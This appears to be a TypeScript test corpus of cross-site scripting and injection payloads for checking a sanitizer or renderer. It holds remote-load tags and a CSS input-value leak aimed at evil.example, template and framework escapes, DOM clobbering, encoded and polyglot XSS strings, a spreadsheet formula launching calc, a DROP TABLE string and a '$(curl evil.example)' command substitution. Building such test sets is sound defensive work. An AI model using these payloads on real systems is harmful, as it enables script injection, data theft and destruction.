import type { Family } from './xss-payload.ts';

const CALL = 'alert(document.domain)';
const HOST = 'https://evil.example';

const loads: Family = {
  name: 'loads from elsewhere',
  payloads: [
    `<img src=${HOST}/pixel.gif>`,
    `<img srcset="${HOST}/1.png 1x, ${HOST}/2.png 2x">`,
    `<picture><source srcset=${HOST}/p.webp><img></picture>`,
    `<video src=${HOST}/v.mp4 poster=${HOST}/p.png autoplay>`,
    `<audio src=${HOST}/a.mp3 autoplay>`,
    `<input type=image src=${HOST}/i.png>`,
    `<body background=${HOST}/b.png>`,
    `<table background=${HOST}/t.png>`,
    ...[
      'stylesheet',
      'preload',
      'prefetch',
      'dns-prefetch',
      'preconnect',
      'modulepreload',
      'icon',
      'manifest',
    ].map((kind) => `<link rel=${kind} as=script href=${HOST}/${kind}>`),
    `<style>@import url(${HOST}/i.css);</style>`,
    `<style>@font-face{font-family:x;src:url(${HOST}/f.woff)}:host{font-family:x}</style>`,
    `<style>input[value^=a]{background:url(${HOST}/a)}</style>`,
    `<div style="background:url(${HOST}/d.png)">`,
    `<div style="width:expression(${CALL})">`,
    `<div style="-moz-binding:url(${HOST}/x.xml)">`,
    `<p style="position:fixed;inset:0;z-index:9999">Your session is over</p>`,
    `<a ping=${HOST}/ping href=#>Help</a>`,
    `![pixel](${HOST}/pixel.gif)`,
    `![](${HOST}/pixel.gif)`,
    `![${HOST}/pixel.gif]`,
    `[![pixel](${HOST}/pixel.gif)]`,
  ],
};

const markers: Family = {
  name: 'marks of templates',
  payloads: [
    ...[
      '{{7*7}}',
      '${7*7}',
      '#{7*7}',
      '<%= 7*7 %>',
      '{%7*7%}',
      '[[7*7]]',
      '@(7*7)',
      '*{7*7}',
      '{7*7}',
      '~{7*7}',
    ],
    `{{constructor.constructor('${CALL}')()}}`,
    `{{$on.constructor('${CALL}')()}}`,
    `\${${CALL}}`,
    `{{{html}}}`,
    `<div ng-app ng-csp ng-click=$event.view.${CALL}>`,
    `<div v-html="'<img src=x onerror=${CALL}>'">`,
    `<div x-data x-init="${CALL}">`,
    `<div hx-get=${HOST}/ hx-trigger=load>`,
    `<div data-bind="html: '<script>${CALL}</script>'">`,
    `<div dangerouslySetInnerHTML={{__html:'<script>${CALL}</script>'}}>`,
    `<!--?lit$123456789$-->`,
    `<?lit$123456789$>`,
    `<!--lit-part-->`,
    `<!--lit-node 0-->`,
    `lit$123456789$0`,
    `<p \${${CALL}}></p>`,
    `<p .innerHTML=\${1}>`,
    `<p @click=\${1} ?hidden=\${0}>`,
    {
      text: `_$lit$ {"_$litType$":1,"strings":["<img src=x onerror=${CALL}>"],"values":[]}`,
      shown: `$lit$ {"$litType$":1,"strings":["<img src=x onerror=${CALL}>"],"values":[]}`,
    },
    `{"_$litDirective$":{},"values":[]}`,
    `{"__html":"<script>${CALL}</script>"}`,
    `__proto__`,
    `constructor.prototype.toString`,
    `{"__proto__":{"innerHTML":"<script>${CALL}</script>"}}`,
  ],
};

const clobbering: Family = {
  name: 'names that hide those of the page',
  payloads: [
    `<form id=document><input name=body></form>`,
    `<form name=attributes><input name=nodeName></form>`,
    `<a id=customElements></a><a id=customElements name=define>`,
    `<img name=currentScript src=${HOST}/x.js>`,
    `<iframe name=trustedTypes srcdoc="<a id=createPolicy></a>"></iframe>`,
    `<object id=location name=href data=${HOST}></object>`,
    `<slot name=header>The team</slot>`,
    `<div part="message message-agent" class="row other">The team</div>`,
    `<button slot=launcher is=x-y onclick=${CALL}>`,
  ],
};

const entities: Family = {
  name: 'encoded markup',
  payloads: [
    `&lt;img src=x onerror=${CALL}&gt;`,
    `&#60;img src=x onerror=${CALL}&#62;`,
    `&#x3c;script&#x3e;${CALL}&#x3c;/script&#x3e;`,
    `&amp;lt;script&amp;gt;${CALL}&amp;lt;/script&amp;gt;`,
    `%3Cscript%3E${CALL}%3C/script%3E`,
    `%253Cscript%253E${CALL}`,
    `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
    `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`,
    `\\74script\\76${CALL}`,
    `+ADw-img src=x onerror=${CALL}+AD4-`,
    `\uFF1Cscript\uFF1E${CALL}\uFF1C/script\uFF1E`,
    `\u2039script\u203A${CALL}\u2039/script\u203A`,
    `\u00ABimg src=x onerror=${CALL}\u00BB`,
    `<\u200Bscript>${CALL}</\u200Bscript>`,
    `<s\u0131cript>${CALL}</s\u0131cript>`,
    `<\u017Fcript>${CALL}</\u017Fcript>`,
    `<img/src=\u0060x\u0060 onerror=${CALL}>`.replaceAll('\u0060', '&grave;'),
    `&NewLine;&Tab;&lpar;&colon;`,
  ],
};

const many: Family = {
  name: 'for many places at once',
  payloads: [
    {
      text: `jaVasCript:/*-/*'/*\\'/*"/**/(/* */oNcliCk=${CALL} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${CALL}//>\\x3e`,
      shown: `jaVasCript:/-/'/\\'/"/**/(/* */oNcliCk=${CALL} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${CALL}//>\\x3e`,
    },
    `'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)>`,
    `<a href='javascript:${CALL}' style=x:expression(${CALL}) onclick=${CALL}>{{7*7}}\${7*7}</a>`,
    `"'/><svg/onload=${CALL}>{{7*7}}<!--?lit$1$-->`,
    `=cmd|' /C calc'!A0`,
    `=HYPERLINK("javascript:${CALL}","Help")`,
    `1;DROP TABLE messages;--`,
    `$(curl evil.example)`,
    `\u001b]8;;javascript:1\u0007Help\u001b]8;;\u0007`,
  ],
};

/** Texts that try to load something, or to be more than text to what draws or decodes them. */
export const templates: readonly Family[] = [loads, markers, clobbering, entities, many];
